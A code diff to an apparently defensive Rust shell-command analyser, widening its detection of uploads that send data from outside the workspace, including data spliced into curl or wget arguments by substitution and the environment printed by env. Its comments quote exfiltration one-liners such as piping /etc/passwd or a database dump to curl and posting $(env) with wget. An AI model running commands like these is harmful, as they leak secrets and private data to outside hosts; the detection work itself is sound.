@@ -536,40 +536,58 @@ fn listens(i: &Invocation) -> bool {
 /// read a file outside the workspace (`cat /etc/passwd | curl
 /// --data-binary @- ..`) or that prints data kept outside it: a
 /// database's dump, export or query, the clipboard (`pg_dump prod | gzip |
-/// curl -T - ..`).
+/// curl -T - ..`). The same data spelled into what a request sends by a
+/// substitution (`curl "https://h/?d=$(history)"`, `wget --post-data
+/// "$(env)" ..`) is sent as surely.
 pub(super) fn piped_uploads(
     invocations: &[Invocation],
     ctx: &ShellContext<'_>,
     out: &mut Vec<Risk>,
 ) {
     for (n, upload) in invocations.iter().enumerate() {
-        if !matches!(upload.stdin, Stdin::Pipe(_)) || !is_upload(upload) {
-            continue;
+        if matches!(upload.stdin, Stdin::Pipe(_)) && is_upload(upload) {
+            for reader in feeding_stages(invocations, n) {
+                sent_data(upload, reader, ctx, out);
+            }
         }
-        for reader in feeding_stages(invocations, n) {
-            if let Some(data) = prints_outside_data(reader) {
-                out.push(risk(
-                    RiskKind::UploadExternalFile,
-                    format!(
-                        "{} sends {data} printed by {}",
-                        upload.program, reader.program
-                    ),
-                ));
+        let requests = Role::HttpClient.includes(&upload.program) || is_upload(upload);
+        if requests && upload.arg_words.iter().any(|w| !w.substitutions.is_empty()) {
+            for reader in invocations.get(upload.substituted.clone()).unwrap_or(&[]) {
+                sent_data(upload, reader, ctx, out);
             }
-            for file in files_read(reader) {
-                let resolved = resolve(&file, ctx);
-                if !resolved.inside_workspace
-                    && !sondera_catalogue::places::is_scratch(&resolved.path, ctx.home)
-                {
-                    out.push(risk(
-                        RiskKind::UploadExternalFile,
-                        format!(
-                            "{} sends {} read by {}",
-                            upload.program, resolved.path, reader.program
-                        ),
-                    ));
-                }
-            }
+        }
+    }
+}
+
+/// What of the data kept outside the workspace that `reader` prints or
+/// reads `upload` sends.
+fn sent_data(
+    upload: &Invocation,
+    reader: &Invocation,
+    ctx: &ShellContext<'_>,
+    out: &mut Vec<Risk>,
+) {
+    if let Some(data) = prints_outside_data(reader) {
+        out.push(risk(
+            RiskKind::UploadExternalFile,
+            format!(
+                "{} sends {data} printed by {}",
+                upload.program, reader.program
+            ),
+        ));
+    }
+    for file in files_read(reader) {
+        let resolved = resolve(&file, ctx);
+        if !resolved.inside_workspace
+            && !sondera_catalogue::places::is_scratch(&resolved.path, ctx.home)
+        {
+            out.push(risk(
+                RiskKind::UploadExternalFile,
+                format!(
+                    "{} sends {} read by {}",
+                    upload.program, resolved.path, reader.program
+                ),
+            ));
         }
     }
 }
@@ -604,12 +622,15 @@ fn prints_outside_data(i: &Invocation) -> Option<&'static str> {
             "pbpaste" | "wl-paste" => "the clipboard",
             "ldapsearch" => "a directory's entries",
             "journalctl" => "the system's logs",
-            "history" => "the shell's history",
+            "history" | "fc" => "the shell's history",
             _ => "a database's data",
         });
     }
     if prints_cloud_object(i) {
         return Some("a cloud storage object");
+    }
+    if matches!(program, "env" | "printenv") && i.args.iter().all(|a| a.starts_with('-')) {
+        return Some("the environment");
     }
     Role::DatabaseClient
         .includes(program)
